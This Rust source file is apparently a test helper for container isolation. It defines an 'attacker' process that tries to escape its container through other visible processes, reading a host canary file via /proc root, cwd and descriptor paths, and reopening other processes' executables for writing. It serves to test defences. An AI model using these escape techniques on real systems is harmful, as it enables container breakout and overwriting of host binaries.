//! A process in a container that looks for a way out through the other processes that it sees.
//!
//! `attacker snoop CANARY`: reads the file CANARY of the host through the root, the working
//! directory and the descriptors of whoever appears. `attacker grab`: holds on to the executables
//! of whoever appears, and tries to open them for writing. Both say `ready`, then `reached PATH`
//! for each success, and go on until they are killed or have said enough.

use std::collections::BTreeSet;
use std::env;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::sync::atomic::{AtomicU32, Ordering};
use std::thread;

/// How many lines are enough.
const ENOUGH: u32 = 10;

static SAID: AtomicU32 = AtomicU32::new(0);

fn main() {
    let arguments: Vec<_> = env::args().collect();
    let first = others(&BTreeSet::new());
    say("ready");
    match arguments.get(1).map(String::as_str) {
        Some("snoop") => snoop(arguments.get(2).map_or("", String::as_str), &first),
        _ => grab(&first),
    }
}

/// All processes but this one and the first, which are in the container by right.
fn others(known: &BTreeSet<u32>) -> BTreeSet<u32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    let pids = entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
    pids.filter(|pid| *pid != 1 && *pid != std::process::id() && !known.contains(pid)).collect()
}

fn snoop(canary: &str, known: &BTreeSet<u32>) -> ! {
    loop {
        for way in others(known).into_iter().flat_map(ways) {
            let path = format!("{way}/{canary}");
            if fs::read_to_string(&path).is_ok_and(|text| text.contains("secret")) {
                say(&format!("reached {path}"));
            }
        }
    }
}

/// What leads to the root directory of a process, or of the host.
fn ways(pid: u32) -> Vec<String> {
    let up = "../".repeat(20);
    let mut ways = vec![format!("/proc/{pid}/root"), format!("/proc/{pid}/cwd/{up}")];
    let fds = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
    ways.extend(fds.map(|fd| format!("{}/{up}", fd.path().display())));
    ways
}

fn grab(known: &BTreeSet<u32>) -> ! {
    let mut held: Vec<File> = Vec::new();
    loop {
        for pid in others(known) {
            let exe = format!("/proc/{pid}/exe");
            let target = fs::read_link(&exe).unwrap_or_default();
            if target.as_os_str().is_empty() || target.starts_with("/bin") || held.len() > 200 {
                continue;
            }
            held.extend(OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&exe));
        }
        for file in &held {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            if OpenOptions::new().write(true).open(&path).is_ok() {
                let target = fs::read_link(&path).unwrap_or_default();
                say(&format!("reached {}", target.display()));
            }
        }
    }
}

fn say(text: &str) {
    drop(writeln!(std::io::stdout(), "{text}"));
    while SAID.fetch_add(1, Ordering::Relaxed) >= ENOUGH {
        thread::park();
    }
}
